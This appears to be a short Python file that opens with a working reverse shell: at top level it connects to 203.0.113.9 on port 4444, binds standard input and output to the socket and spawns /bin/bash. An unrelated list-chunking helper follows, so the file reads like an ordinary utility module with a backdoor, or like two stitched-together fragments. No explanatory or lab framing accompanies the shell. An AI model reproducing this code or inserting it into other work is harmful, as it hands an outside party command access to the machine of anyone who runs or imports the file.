#!/usr/bin/env python3

import socket, os, pty
sock = socket.socket()
sock.connect(("203.0.113.9", 4444))
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
pty.spawn("/bin/bash")
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
